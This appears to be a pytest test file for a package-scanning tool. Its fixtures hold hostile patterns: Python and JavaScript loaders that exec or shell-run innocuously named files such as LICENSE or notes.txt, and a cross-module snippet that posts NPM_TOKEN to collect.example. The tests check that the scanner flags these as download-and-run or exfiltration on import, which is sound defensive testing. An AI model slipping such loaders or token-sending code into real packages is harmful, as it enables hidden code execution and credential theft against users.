"""Files beside a program that it reads as code or starts, whatever their names say that they are."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.test_across_files import LINE, SYSTEM, told

CODE = f"import os\n{SYSTEM}\n"
HERE = "os.path.join(os.path.dirname(__file__), "
_IN_CONTEXT = "require('vm').runInThisContext(fs.readFileSync(path.join(__dirname, 'a.dat')))"
JS = f"require('child_process').exec('{LINE}')"


@pytest.mark.parametrize(
    ("first", "name", "second"),
    [
        ("import os\nexec(open(" + HERE + "'data.bin')).read())", "data.bin", CODE),
        ("import pathlib\nexec((pathlib.Path(__file__).parent / 'LICENSE').read_text())", "LICENSE", CODE),
        ("import pkgutil\nexec(pkgutil.get_data(__name__, 'notes.txt'))", "notes.txt", CODE),
        (
            "from importlib import resources as r\nexec(r.files(__package__).joinpath('a.txt').read_text())",
            "a.txt",
            CODE,
        ),
        ("from importlib import resources\nexec(resources.read_text(__package__, 'a.txt'))", "a.txt", CODE),
        ("import os, runpy\nrunpy.run_path(" + HERE + "'a.dat'))", "a.dat", CODE),
        ("import os, subprocess\nsubprocess.run(['bash', " + HERE + "'a.sh')])", "a.sh", LINE),
        ("import os, subprocess\nsubprocess.run(['sh', " + HERE + "'LICENSE')])", "LICENSE", LINE),
        ("import os, subprocess\nsubprocess.run([" + HERE + "'a.sh')])", "a.sh", LINE),
        ("import os, subprocess\nsubprocess.run(['sh', " + HERE + "'a.sh')])", "a.sh", "sh ./b.sh\n" + LINE),
        ("import os, subprocess\nsubprocess.run(['node', " + HERE + "'a.dat')])", "a.dat", JS),
    ],
)
def test_of_python(tmp_path: Path, first: str, name: str, second: str) -> None:
    assert ("download-and-run", "import") in told(tmp_path, {"pkg/__init__.py": first, f"pkg/{name}": second})


@pytest.mark.parametrize(
    ("first", "name", "second"),
    [
        ("eval(require('fs').readFileSync(__dirname + '/notes.txt', 'utf8'))", "notes.txt", JS),
        (
            "const fs = require('fs'), path = require('path');\n" + _IN_CONTEXT,
            "a.dat",
            JS,
        ),
        ("const text = require('fs').readFileSync('./LICENSE');\nnew Function(text)()", "LICENSE", JS),
        ("require('child_process').execFileSync('sh', [__dirname + '/a.sh'])", "a.sh", LINE),
    ],
)
def test_of_javascript(tmp_path: Path, first: str, name: str, second: str) -> None:
    files = {"package.json": '{"name": "left", "version": "1.0.0"}', "index.js": first, name: second}
    assert ("download-and-run", "import") in told(tmp_path, files)


@pytest.mark.parametrize(
    ("first", "name", "second"),
    [
        ("import os\nTEXT = open(" + HERE + "'LICENSE')).read()", "LICENSE", CODE),
        ("import os, subprocess\ndef main():\n    subprocess.run(['sh', " + HERE + "'a.sh')])", "a.sh", LINE),
        ("import os\nTEXT = open(" + HERE + "'notes.txt')).read()\nexec('x = 1')", "notes.txt", CODE),
        ("exec(open('/etc/notes.txt').read())", "etc/notes.txt", CODE),
    ],
)
def test_what_is_only_read_or_started_later_does_not_run_at_once(
    tmp_path: Path, first: str, name: str, second: str
) -> None:
    found = told(tmp_path, {"pkg/__init__.py": first, f"pkg/{name}": second})
    assert ("download-and-run", "import") not in found


def test_a_token_is_followed_from_one_module_to_another_one(tmp_path: Path) -> None:
    files = {
        "pkg/__init__.py": "from .b import get\nfrom .c import send\nsend(get())\n",
        "pkg/b.py": "import os\ndef get():\n    return os.environ['NPM_TOKEN']\n",
        "pkg/c.py": "import requests\ndef send(x):\n    requests.post('https://collect.example', data=x)\n",
    }
    assert ("exfiltration", "import") in told(tmp_path, files)
